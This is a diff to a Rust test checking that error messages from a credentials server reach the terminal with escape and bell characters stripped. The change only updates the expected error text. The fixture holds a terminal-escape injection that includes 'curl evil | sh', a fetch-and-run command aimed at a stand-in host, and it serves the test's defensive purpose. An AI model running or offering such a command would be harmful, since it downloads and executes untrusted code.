@@ -489,7 +489,7 @@ async fn server_messages_reach_the_terminal_without_control_characters() {
     let err = stderr(&out);
     assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
     assert!(
-        err.starts_with("error: no access to role ReadOnly in account 111111111111 (]0;owned[2JRun: curl evil | sh)\n"),
+        err.starts_with("error: no access to role ReadOnly in account 111111111111\n  caused by: GetRoleCredentials failed: ]0;owned[2JRun: curl evil | sh (ForbiddenException)\n"),
         "{err:?}"
     );
 }
